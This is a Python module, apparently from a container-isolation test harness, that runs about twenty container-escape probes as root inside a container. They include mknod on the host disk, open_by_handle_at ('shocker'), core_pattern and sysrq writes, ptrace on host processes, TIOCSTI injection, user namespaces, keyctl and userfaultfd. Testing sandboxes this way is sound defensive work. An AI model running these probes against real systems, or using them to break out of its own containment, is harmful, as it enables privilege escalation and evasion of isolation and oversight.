"""Attacks on the kernel around a container: each function is one, tried by a root who is inside.

    programs.main(), arguments NAME…   →   {"NAME": [true, "what it got"], "OTHER": [false, "what stopped it"]}

A function returns what it got hold of. Whatever it raises means that it was stopped: the kernel's error, or `Stopped`
where there was nothing to get. Each runs in a child of its own. `VICTIM` is a process of the node (`victim.py`),
`HANDLE` names a file of it.
"""

from __future__ import annotations

import array
import ctypes
import json
import os
import signal
import socket
import stat
import sys
import termios
import time
from collections.abc import Callable
from fcntl import ioctl
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)

CLONE_NEWUSER = 0x10000000
NR_CLONE3, NR_OPEN_BY_HANDLE_AT = 435, 304
NR_KEYCTL, NR_USERFAULTFD = 250, 323
if os.uname().machine == "aarch64":
    NR_OPEN_BY_HANDLE_AT, NR_KEYCTL, NR_USERFAULTFD = 265, 219, 282
KEYCTL_GET_KEYRING_ID, KEYCTL_SEARCH, KEYCTL_READ, SESSION_KEYRING = 0, 10, 11, -3
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class Stopped(Exception):
    """There was nothing to get."""


def call(name: str, *arguments: object) -> int:
    """Call a function of the C library; raise OSError where it says -1."""
    result = getattr(libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), name)
    return int(result)


def syscall(number: int, *arguments: object) -> int:
    return call("syscall", ctypes.c_long(number), *arguments)


def victim() -> int:
    return int(os.environ["VICTIM"])


# -- devices


def disk() -> str:
    """Make a device file for the node's first disk, wherever one can be made, and read the disk past all rights."""
    failed: OSError | None = None
    for folder in ("/attacks", "/dev", "/dev/shm", "/tmp", "/"):
        path = Path(folder, f"disk{os.getpid()}")
        try:
            os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(254, 0))
            return f"{path}: {path.read_bytes()[:4]!r}" if not path.stat().st_size else ""
        except OSError as error:
            failed = error
        finally:
            path.unlink(missing_ok=True)
    raise failed or Stopped


# -- rights of root


def mount() -> str:
    """Mount a file system: with that a container could show itself the node's disks, or change what is masked."""
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    return "a tmpfs is at /tmp"


def clock() -> str:
    """Set the clock, which all of the node shares (to what it is)."""
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "set"


def open_by_handle() -> str:
    """Open a file of the node by its number instead of its path (the "shocker" of 2014): DAC_READ_SEARCH allows it, and
    no mount namespace stands in the way where a volume is of the same file system.
    """
    data = bytes.fromhex(os.environ["HANDLE"])
    handle = ctypes.create_string_buffer(data, len(data))
    at = os.open("/handles", os.O_RDONLY)
    fd = syscall(NR_OPEN_BY_HANDLE_AT, at, handle, os.O_RDONLY)
    return os.read(fd, 100).decode()


def set_user_id() -> str:
    """Become root by a set-user-ID program of the image, as a user who is not."""
    answer = os.popen("/attacks/suid-python -S -c 'import os; print(os.geteuid())'").read().strip()
    if answer != "0":
        raise Stopped(f"still user {answer}")
    return "root"


def file_capabilities() -> str:
    """Gain capabilities, as an ordinary user, by a program whose file has inheritable ones (CVE-2022-29162)."""
    text = os.popen("/attacks/inheriting-python -S -c 'print(open(\"/proc/self/status\").read())'").read()
    held = int(next(line for line in text.splitlines() if line.startswith("CapPrm")).split()[1], 16)
    if not held:
        raise Stopped("no capability gained")
    return f"{held:#x}"


# -- what procfs and sysfs show


def kernel_settings() -> str:
    """Open the node's core_pattern for writing: the kernel would run a program named there as root of the node."""
    path = Path("/proc/sys/kernel/core_pattern")
    path.write_text(path.read_text())
    return "written"


def sysrq() -> str:
    """Open /proc/sysrq-trigger for writing: a letter would restart the node."""
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "open"


def node_state() -> str:
    """Read what the kernel tells of all processes and of the machine."""
    names = ("/proc/timer_list", "/proc/keys", "/proc/interrupts")
    shown = [name for name in names if Path(name).exists() and Path(name).read_bytes()]
    shown += [str(path) for path in Path("/sys/firmware").glob("*")]
    if not shown:
        raise Stopped("all is empty")
    return " ".join(shown)


# -- other processes


def kill_outside() -> str:
    """Send a signal to a process of the node."""
    os.kill(victim(), signal.SIGUSR1)
    return "signalled"


def trace_outside() -> str:
    """Stop a process of the node, as a debugger would, to read and change its memory."""
    call("ptrace", PTRACE_ATTACH, ctypes.c_long(victim()), 0, 0)
    os.waitpid(victim(), 0x40000000)  # __WALL
    call("ptrace", PTRACE_DETACH, ctypes.c_long(victim()), 0, 0)
    return "traced"


def abstract_socket() -> str:
    """Connect to a socket of the node that has no path, only a name in the network namespace (CVE-2020-15257)."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0vmcontainer-victim")
        return sock.recv(100).decode()


def shared_memory() -> str:
    """Read shared memory of the node: its key has no path and no mount either."""
    number = call("shmget", 0x5EED, 0, 0)
    libc.shmat.restype = ctypes.c_void_p
    return ctypes.string_at(libc.shmat(number, None, 0o10000), 6).decode()


def host_name() -> str:
    """Give the node another name; this one may (CAP_SYS_ADMIN), but it is its own that changes."""
    call("sethostname", b"attacked", 8)
    return "set"


def terminal_input() -> str:
    """Type into the node's terminal: what is "typed" is read by the shell there, later (CVE-2017-5226)."""
    for letter in b"x\n":
        ioctl(0, termios.TIOCSTI, bytes([letter]))
    return "typed"


# -- system calls


def user_namespace() -> str:
    """Become root of a user namespace: with all capabilities in there, most of the kernel's holes of the last years are
    in reach (CVE-2022-0185, CVE-2022-0492).
    """
    call("unshare", CLONE_NEWUSER)
    return "root of a user namespace"


def clone3() -> str:
    """Make the same user namespace by clone3(2), whose flags are in memory, where no filter can see them: so the call
    is not there at all (ENOSYS), and the C library takes clone(2).
    """
    arguments = array.array("Q", [CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0])
    pid = syscall(NR_CLONE3, ctypes.c_void_p(arguments.buffer_info()[0]), ctypes.c_size_t(64))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a process in a user namespace"


def key_call() -> str:
    """Ask for keys: they have no namespace, and the calls for them have had many holes (CVE-2016-0728)."""
    return f"keyring {syscall(NR_KEYCTL, KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 1)}"


def node_key() -> str:
    """Read a key of the node's session keyring."""
    key = syscall(NR_KEYCTL, KEYCTL_SEARCH, SESSION_KEYRING, b"user", b"vmcontainer-victim", 0)
    data = ctypes.create_string_buffer(100)
    return data.raw[: syscall(NR_KEYCTL, KEYCTL_READ, key, data, 100)].decode()


def user_fault() -> str:
    """Stop the kernel in the middle of a copy from our memory, for as long as we like: what wins races (CVE-2021-22555
    and others).
    """
    os.close(syscall(NR_USERFAULTFD, 1))  # UFFD_USER_MODE_ONLY
    return "a descriptor"


def attempt(name: str) -> tuple[bool, str]:
    """Run one attack in a child; True if it got through, with what it got."""
    attack: Callable[[], str] = globals()[name]
    read_fd, write_fd = os.pipe()
    if (pid := os.fork()) == 0:
        try:
            answer = (True, attack())
        except BaseException as error:
            answer = (False, f"{type(error).__name__}: {error}")
        os.write(write_fd, json.dumps(answer).encode())
        os._exit(0)
    os.close(write_fd)
    with open(read_fd, "rb") as stream:
        data = stream.read()
    os.waitpid(pid, 0)
    return tuple(json.loads(data)) if data else (False, "killed")


def main() -> None:
    print(json.dumps({name: attempt(name) for name in sys.argv[1:]}))
